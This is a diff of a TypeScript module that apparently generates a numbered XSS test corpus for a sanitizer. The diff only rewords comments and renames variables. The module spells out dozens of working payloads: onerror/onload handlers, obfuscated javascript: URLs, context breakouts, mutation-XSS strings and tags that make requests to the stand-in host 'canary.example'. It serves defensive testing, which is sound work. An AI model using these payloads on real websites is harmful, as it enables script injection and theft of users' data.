@@ -1,13 +1,13 @@
-/** Where no request may ever go. */
+/** No request may go to this host. */
 export const canaryHost = 'canary.example'
 
-/** Every vector calls this function with its own number, or asks the canary's host for it. */
+/** Every vector calls this function with its number, or requests it from the canary host. */
 export const alarm = 'pwned'
 
-/** `§` stands for the call, `¤` for the number alone, `¢` for an address of the canary. */
+/** `§` stands for the call, `¤` for the number alone, `¢` for an address on the canary host. */
 type Template = string
 
-/** What runs by itself once it is drawn: a beginning of a tag, and the handler that fires. */
+/** Elements that fire an event by themselves: the start of the tag, and the event. */
 const firing: [string, string][] = [
   ['<img src=x', 'onerror'],
   ['<image src=x', 'onerror'],
@@ -56,7 +56,7 @@ const firing: [string, string][] = [
 const capital = (name: string) => name.replace(/[aeiou]/g, (letter) => letter.toUpperCase())
 const entities = (code: string) => [...code].map((letter) => `&#${letter.charCodeAt(0)}`).join(';')
 
-/** How a handler can be written. */
+/** Spellings of an event handler. */
 const handlers: ((name: string) => Template)[] = [
   (name) => ` ${name}=§>`,
   (name) => `/${name}='§'/>`,
@@ -66,7 +66,7 @@ const handlers: ((name: string) => Template)[] = [
   (name) => `\f${name}="javascript:\\u0070wned(¤)" alt="`,
 ]
 
-/** The scheme that runs, in every dress that a browser sees through. */
+/** Script addresses, in every spelling that browsers accept. */
 const addresses: Template[] = [
   'javascript:§',
   'JaVaScRiPt:§',
@@ -102,7 +102,7 @@ const addresses: Template[] = [
   'https:javascript:§',
 ]
 
-/** What carries an address; `@` is where it stands. */
+/** Elements with an address; `@` is its placeholder. */
 const carriers: Template[] = [
   '<a href="@">a</a>',
   "<a href='@' target=_blank>a</a>",
@@ -122,7 +122,7 @@ const carriers: Template[] = [
   '<table background="@"><td background="@">a</table>',
 ]
 
-/** The ends of whatever a text may have been put into. */
+/** Closes the context that a text may be inserted into. */
 const breakouts = [
   ...['">', "'>", '`>', '>', '" x="', '</title>', '</textarea>', '</style>', '</script>', '</noscript>'],
   ...['</template>', '</select>', '</iframe>', '</xmp>', '</a></p></div>', '-->', '--!>', ']]>', '?>', '%>'],
@@ -130,14 +130,14 @@ const breakouts = [
 ]
 const inside: Template[] = ['<img src=x onerror=§>', '<svg/onload=§>', '<script>§</script>']
 
-/** Attributes that would be added to the tag that a text stands in. */
+/** Attributes that would be added to the tag around the text. */
 const attributes: Template[] = ['"', "'", '`', '" "', '&quot; ', '\\"'].flatMap((quote) => [
   `${quote} autofocus onfocus=§ x=${quote}`,
   `${quote}onmouseover=§ style=position:fixed;inset:0 x=${quote}`,
   `${quote} srcdoc=<script>§</script> x=${quote}`,
 ])
 
-/** What is harmless as one parser reads it, and runs as another does. */
+/** Mutation XSS: harmless in one parser, runs in another. */
 const mutations: Template[] = [
   '<noscript><p title="</noscript><img src=x onerror=§>">',
   '<noscript><style></noscript><img src=x onerror=§>',
@@ -192,7 +192,7 @@ const mutations: Template[] = [
   '<plaintext><img src=x onerror=§>',
 ]
 
-/** Aimed at the data that the page carries for its script, and at what search engines read. */
+/** Aimed at the page's hydration data and linked data. */
 const scripts: Template[] = [
   '</SCRIPT ><SCRIPT>§</SCRIPT>',
   '</script\t><svg onload=§>',
@@ -227,8 +227,8 @@ const scripts: Template[] = [
   '<script type="speculationrules">{"prefetch":[{"urls":["¢"]}]}</script>',
 ]
 
-/** What asks somebody else for something, if it does not run. */
-const calls: Template[] = [
+/** Makes a request to another host without running script. */
+const requests: Template[] = [
   '<img src="¢">',
   '<img src="/x.png" srcset="¢ 2x">',
   '<img src="https:¢">',
@@ -263,25 +263,25 @@ const calls: Template[] = [
   '<fencedframe src="¢"></fencedframe>',
 ]
 
-const carried = carriers.flatMap((carrier, place) =>
+const withAddresses = carriers.flatMap((carrier, place) =>
   addresses
-    // Every address goes by every fourth carrier, and every carrier with every fourth address.
+    // Each carrier gets every fourth address.
     .filter((_, index) => (index + place) % 4 === 0)
     .map((address) => carrier.replaceAll('@', address.replaceAll('"', '&quot;'))),
 )
 
 const templates: Template[] = [
-  ...firing.flatMap(([tag, name]) => handlers.map((written) => tag + written(name))),
+  ...firing.flatMap(([tag, name]) => handlers.map((handler) => tag + handler(name))),
   ...addresses,
-  ...carried,
+  ...withAddresses,
   ...breakouts.flatMap((end) => inside.map((vector) => end + vector)),
   ...attributes,
   ...mutations,
   ...scripts,
-  ...calls,
+  ...requests,
 ]
 
-/** Told apart by what they are, not by their numbers. */
+/** The number of distinct templates. */
 export const distinct = new Set(templates).size
 
 const fill = (template: Template, number: number) =>
@@ -292,7 +292,7 @@ const fill = (template: Template, number: number) =>
 
 export const vectors: string[] = templates.map(fill)
 
-/** Those that are addresses, for the fields that hold one. */
+/** Vectors for fields that hold an address. */
 export const addressVectors: string[] = vectors.slice(
   firing.length * handlers.length,
   firing.length * handlers.length + addresses.length,
